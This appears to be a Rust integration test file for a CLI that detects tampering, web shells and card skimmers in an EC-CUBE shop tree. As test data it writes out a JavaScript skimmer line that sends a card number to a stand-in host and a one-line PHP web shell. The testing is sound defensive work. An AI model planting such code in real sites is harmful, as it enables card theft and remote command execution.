//! `anshin integrity` through the built binary: a generated EC-site tree,
//! the breaches' tamperings planted in it, and what the commands say and
//! exit with. Alerts are parsed from `--json` output (one per line).

use std::path::PathBuf;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use anshin_crypto::webhook::WebhookKey;
use anshin_integrity::fixture::{self, EC_RULES};
use serde_json::Value;

/// A shop tree with its rules, baseline and key paths.
pub(crate) struct Shop {
    dir: tempfile::TempDir,
}

impl Shop {
    pub(crate) fn new() -> Self {
        let dir = tempfile::tempdir().expect("dir");
        fixture::shop_tree(&dir.path().join("shop"), 100);
        std::fs::write(dir.path().join("rules.toml"), EC_RULES).expect("rules");
        Self { dir }
    }

    pub(crate) fn root(&self) -> PathBuf {
        self.dir.path().join("shop")
    }

    pub(crate) fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_anshin"));
        command
            .arg("integrity")
            .args(args)
            .arg("--data-dir")
            .arg(self.path("data"))
            .env_remove("ANSHIN_DATABASE_URL")
            .env_remove("ANSHIN_INTEGRITY_BASELINE")
            .env_remove("ANSHIN_INTEGRITY_KEY")
            .env_remove("ANSHIN_ALERT_WEBHOOK_URL")
            .env_remove("ANSHIN_ALERT_WEBHOOK_SECRET")
            .env("ANSHIN_LOG", "warn")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        command
    }

    pub(crate) fn run(&self, args: &[&str]) -> Output {
        self.command(args).output().expect("run anshin integrity")
    }

    pub(crate) fn baseline(&self) {
        let root = self.root();
        let rules = self.path("rules.toml");
        let out = self.run(&[
            "baseline",
            root.to_str().expect("utf-8"),
            "--rules",
            rules.to_str().expect("utf-8"),
        ]);
        assert_eq!(
            out.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }

    pub(crate) fn check(&self) -> (Option<i32>, Vec<Value>, String) {
        let out = self.run(&["check", "--json"]);
        (
            out.status.code(),
            lines(&out.stdout),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }
}

pub(crate) fn lines(stdout: &[u8]) -> Vec<Value> {
    String::from_utf8_lossy(stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("one JSON alert per line"))
        .collect()
}

fn has(alerts: &[Value], path: &str, kind: &str, severity: &str) -> bool {
    alerts
        .iter()
        .any(|a| a["path"] == path && a["kind"] == kind && a["severity"] == severity)
}

#[test]
fn baseline_check_and_every_planted_tampering_through_the_cli() {
    let shop = Shop::new();
    shop.baseline();
    {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = std::fs::metadata(shop.path("data/integrity/signing.key"))
            .expect("key")
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
    }
    let (code, alerts, _) = shop.check();
    assert_eq!((code, alerts.len()), (Some(0), 0), "{alerts:#?}");

    let planted = fixture::plant_all(&shop.root());
    let (code, alerts, _) = shop.check();
    assert_eq!(code, Some(6));
    for plant in &planted {
        for kind in plant.kinds {
            assert!(
                has(&alerts, plant.path, kind, "critical"),
                "{}: no critical {kind}: {alerts:#?}",
                plant.name
            );
        }
        for rule in plant.rules {
            assert!(
                alerts
                    .iter()
                    .any(|a| a["path"] == plant.path && a["rule"] == *rule),
                "{}: {rule} missing",
                plant.name
            );
        }
    }
    for alert in &alerts {
        assert_eq!(alert["schema"], "anshin-integrity-alert/1");
        assert!(!alert["message_ja"].as_str().unwrap_or("").is_empty());
    }
    // --fail-on critical still fails; approving the skimmer is refused.
    let out = shop.run(&["check", "--fail-on", "critical"]);
    assert_eq!(out.status.code(), Some(6));
    let human = String::from_utf8_lossy(&out.stdout);
    assert!(
        human.contains("critical") && human.contains("php.webshell"),
        "{human}"
    );
    let out = shop.run(&["approve", "--by", "tanaka", "--reason", "deploy"]);
    assert_eq!(
        out.status.code(),
        Some(6),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn a_clean_deploy_approved_raises_nothing_and_the_history_says_who_and_why() {
    let shop = Shop::new();
    shop.baseline();
    fixture::clean_deploy(&shop.root());
    let (code, alerts, _) = shop.check();
    assert_eq!(code, Some(6));
    assert!(has(
        &alerts,
        "src/Eccube/Controller/ReviewController.php",
        "file_added",
        "critical"
    ));
    let out = shop.run(&[
        "approve",
        "--by",
        "tanaka",
        "--reason",
        "EC-CUBE 4.3.1 update, ticket #812",
        "--json",
    ]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let entry: Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(
        (entry["by"].as_str(), entry["added"].as_u64()),
        (Some("tanaka"), Some(1))
    );
    let (code, alerts, _) = shop.check();
    assert_eq!((code, alerts.len()), (Some(0), 0), "{alerts:#?}");
    let text = std::fs::read_to_string(shop.path("data/integrity/baseline")).expect("baseline");
    let payload: Value = serde_json::from_str(text.lines().nth(1).expect("payload")).expect("json");
    let history = payload["history"].as_array().expect("history");
    assert_eq!(history.len(), 2);
    assert_eq!(history[1]["reason"], "EC-CUBE 4.3.1 update, ticket #812");
    assert_eq!(history[1]["action"], "approve");
}

#[test]
fn a_tampered_baseline_is_refused_with_exit_7_and_can_be_checked_off_host() {
    let shop = Shop::new();
    shop.baseline();
    let path = shop.path("data/integrity/baseline");
    let original = std::fs::read(&path).expect("read");
    // The attacker hides the web shell by editing a recorded hash.
    let text = String::from_utf8(original.clone()).expect("utf-8");
    let altered = text.replacen("\"sha256\":\"", "\"sha256\":\"0", 1);
    std::fs::write(&path, altered).expect("write");
    let (code, _, stderr) = shop.check();
    assert_eq!(code, Some(7), "{stderr}");
    assert!(stderr.contains("signature does not verify"), "{stderr}");
    std::fs::write(&path, b"garbage").expect("write");
    assert_eq!(shop.check().0, Some(7));

    // Off the host: the baseline copied elsewhere, verified with the public key only.
    std::fs::write(&path, &original).expect("restore");
    let public = shop.run(&["public-key"]);
    let public = String::from_utf8(public.stdout).expect("utf-8");
    let copy = shop.path("offhost.baseline");
    std::fs::write(&copy, &original).expect("copy");
    let out = shop.run(&[
        "check",
        "--baseline",
        copy.to_str().expect("utf-8"),
        "--public-key",
        public.trim(),
    ]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let wrong = "11".repeat(32);
    let out = shop.run(&[
        "check",
        "--baseline",
        copy.to_str().expect("utf-8"),
        "--public-key",
        &wrong,
    ]);
    assert_eq!(out.status.code(), Some(7));
    // A second baseline over the first is refused: approve is the way.
    let out = shop.run(&["baseline", shop.root().to_str().expect("utf-8")]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn compare_release_reports_files_that_differ_from_the_vendor_archive() {
    let shop = Shop::new();
    let archive = shop.path("eccube-4.3.0.tar.gz");
    let status = Command::new("tar")
        .arg("czf")
        .arg(&archive)
        .arg("--exclude=var")
        .arg("--transform=s,^shop,eccube-4.3.0,")
        .arg("-C")
        .arg(shop.dir.path())
        .arg("shop")
        .status()
        .expect("tar");
    assert!(status.success());
    let args = |json: bool| {
        let mut v = vec![
            "compare-release".to_owned(),
            shop.root().display().to_string(),
            archive.display().to_string(),
            "--rules".to_owned(),
            shop.path("rules.toml").display().to_string(),
        ];
        if json {
            v.push("--json".to_owned());
        }
        v
    };
    let run = |json: bool| {
        let a = args(json);
        shop.run(&a.iter().map(String::as_str).collect::<Vec<_>>())
    };
    let out = run(true);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    fixture::plant_all(&shop.root());
    std::fs::write(
        shop.root().join("app/Customize/Controller/Local.php"),
        b"<?php // ours",
    )
    .expect("write");
    let out = run(true);
    assert_eq!(out.status.code(), Some(6));
    let alerts = lines(&out.stdout);
    assert!(has(
        &alerts,
        "html/upload/save_image/0523104512_5f3a.php",
        "release_added",
        "critical"
    ));
    assert!(has(
        &alerts,
        "html/template/default/assets/js/function.js",
        "release_differs",
        "critical"
    ));
    assert!(alerts.iter().any(|a| a["rule"] == "skimmer.card-exfiltration"));
    assert!(
        !alerts
            .iter()
            .any(|a| a["path"] == "app/Customize/Controller/Local.php")
    );
    let out = shop.run(&[
        "compare-release",
        shop.root().to_str().expect("utf-8"),
        shop.path("rules.toml").to_str().expect("utf-8"),
    ]);
    assert_eq!(out.status.code(), Some(2), "not an archive");
}

#[test]
fn scan_reports_web_shells_and_php_in_images_by_rule_and_line() {
    let shop = Shop::new();
    let uploads = shop.root().join("html/upload");
    let out = shop.run(&["scan", uploads.to_str().expect("utf-8"), "--json"]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    fixture::plant_all(&shop.root());
    let out = shop.run(&["scan", uploads.to_str().expect("utf-8"), "--json"]);
    assert_eq!(out.status.code(), Some(6));
    let alerts = lines(&out.stdout);
    let rules: Vec<(&str, &str, u64)> = alerts
        .iter()
        .map(|a| {
            (
                a["path"].as_str().unwrap_or(""),
                a["rule"].as_str().unwrap_or(""),
                a["line"].as_u64().unwrap_or(0),
            )
        })
        .collect();
    assert_eq!(
        rules,
        vec![
            ("save_image/0523104512_5f3a.php", "php.webshell", 1),
            ("save_image/banner.gif", "image.embedded-php", 2),
        ]
    );
}

#[test]
fn watch_reports_a_planted_skimmer_within_two_seconds() {
    use std::io::BufRead as _;
    let shop = Shop::new();
    shop.baseline();
    let mut child = shop.command(&["watch", "--json"]).spawn().expect("watch");
    let stdout = child.stdout.take().expect("stdout");
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for line in std::io::BufReader::new(stdout).lines().map_while(Result::ok) {
            let _ = tx.send((Instant::now(), line));
        }
    });
    // The start-up rescan reports nothing; give the watches time to be placed.
    std::thread::sleep(Duration::from_millis(1500));
    let target = shop.root().join("html/template/default/assets/js/function.js");
    let mut js = std::fs::read_to_string(&target).expect("read");
    js.push_str("var n = document.getElementById('card_number').value;\nnavigator.sendBeacon('https://cdn-analytics.example/c', n);\n");
    let written = Instant::now();
    std::fs::write(&target, js).expect("write");
    let mut latency = None;
    while let Ok((at, line)) = rx.recv_timeout(Duration::from_secs(10)) {
        let alert: Value = serde_json::from_str(&line).expect("json");
        if alert["path"] == "html/template/default/assets/js/function.js"
            && alert["rule"] == "skimmer.card-exfiltration"
        {
            latency = Some(at.duration_since(written));
            break;
        }
    }
    let _ = child.kill();
    let _ = child.wait();
    let latency = latency.expect("the watcher reported the skimmer");
    assert!(latency < Duration::from_secs(2), "{latency:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn alerts_go_to_the_webhook_signed_like_the_audit_alerts() {
    let (receiver, url) = crate::alerts::receiver(0).await;
    let shop = Shop::new();
    shop.baseline();
    std::fs::write(
        shop.root().join("html/upload/save_image/x.php"),
        b"<?php system($_GET['c']);",
    )
    .expect("write");
    let mut command = shop.command(&["check", "--json", "--webhook"]);
    command
        .env("ANSHIN_ALERT_WEBHOOK_URL", &url)
        .env("ANSHIN_ALERT_WEBHOOK_SECRET", crate::alerts::SECRET);
    let out = tokio::task::spawn_blocking(move || command.output().expect("run"))
        .await
        .expect("join");
    assert_eq!(
        out.status.code(),
        Some(6),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let printed = lines(&out.stdout);
    let got = receiver.got.lock().expect("lock").clone();
    assert_eq!(got.len(), printed.len());
    let key = WebhookKey::new(crate::alerts::SECRET.as_bytes()).expect("key");
    let now = time::OffsetDateTime::now_utc().unix_timestamp();
    for (headers, body) in &got {
        let signature = headers
            .get("anshin-signature")
            .and_then(|v| v.to_str().ok())
            .expect("signed");
        key.verify(signature, body, now, 300).expect("verifies");
        let alert: Value = serde_json::from_slice(body).expect("json");
        assert!(printed.contains(&alert));
    }
    assert!(printed.iter().any(|a| a["rule"] == "php.webshell"));
}

#[test]
fn the_alert_schema_is_committed_and_names_every_field() {
    let schema: Value = serde_json::from_str(include_str!(
        "../../../../docs/schemas/integrity-alert.schema.json"
    ))
    .expect("schema");
    let properties = schema["properties"].as_object().expect("properties");
    let shop = Shop::new();
    shop.baseline();
    fixture::plant_all(&shop.root());
    let (_, alerts, _) = shop.check();
    for alert in &alerts {
        for (field, _) in alert.as_object().expect("object") {
            assert!(properties.contains_key(field), "the schema lacks {field}");
        }
        for required in schema["required"].as_array().expect("required") {
            assert!(
                alert.get(required.as_str().expect("name")).is_some(),
                "{required} missing"
            );
        }
    }
}

/// `check --server URL` against a real `anshin serve`: every alert lands in
/// the server's alert list for the key's tenant, once however often the same
/// check runs, and the key never shows.
#[test]
fn check_sends_its_alerts_to_the_servers_alert_list() {
    use crate::cli::{Server, anshin, stdout_json};
    let shop = Shop::new();
    shop.baseline();
    let server_data = shop.path("server");
    let bootstrap = stdout_json(&anshin(&server_data, &["init", "--json"]));
    let root_key = bootstrap["operator_api_key"].as_str().expect("key").to_owned();
    let server = Server::start(&server_data);
    let (status, tenant) = server.request(
        "POST",
        "/v1/tenants",
        &root_key,
        Some(r#"{"name": "integrity shop"}"#),
    );
    assert_eq!(status, 201, "{tenant}");
    let body = format!(
        r#"{{"name": "integrity", "role": "operator", "tenant_id": "{}"}}"#,
        tenant["id"].as_str().expect("id")
    );
    let (status, principal) = server.request("POST", "/v1/principals", &root_key, Some(&body));
    assert_eq!(status, 201, "{principal}");
    let key = principal["api_key"].as_str().expect("key").to_owned();

    fixture::plant_all(&shop.root());
    let url = format!("http://{}", server.addr);
    let run = || {
        shop.command(&["check", "--json", "--server", &url])
            .env("ANSHIN_API_KEY", &key)
            .output()
            .expect("run")
    };
    let out = run();
    let printed = lines(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(6), "{stderr}");
    assert!(
        stderr.contains(&format!(
            "{} alerts sent to {url} ({} new)",
            printed.len(),
            printed.len()
        )),
        "{stderr}"
    );
    assert!(!stderr.contains(&key));

    let (status, list) = server.request("GET", "/v1/alerts?kind=host_integrity&limit=1000", &key, None);
    assert_eq!(status, 200, "{list}");
    let stored = list["alerts"].as_array().expect("alerts");
    assert_eq!(stored.len(), printed.len());
    assert!(stored.iter().all(|a| a["tenant_id"] == tenant["id"]));
    let criticals = printed.iter().filter(|a| a["severity"] == "critical").count();
    assert_eq!(
        stored.iter().filter(|a| a["severity"] == "critical").count(),
        criticals
    );

    // The same situation again: nothing new.
    let stderr = String::from_utf8_lossy(&run().stderr).into_owned();
    assert!(stderr.contains("(0 new)"), "{stderr}");
    // Without a key: a usage error (2) before anything is read.
    let out = shop
        .command(&["check", "--server", &url])
        .env_remove("ANSHIN_API_KEY")
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2));
}
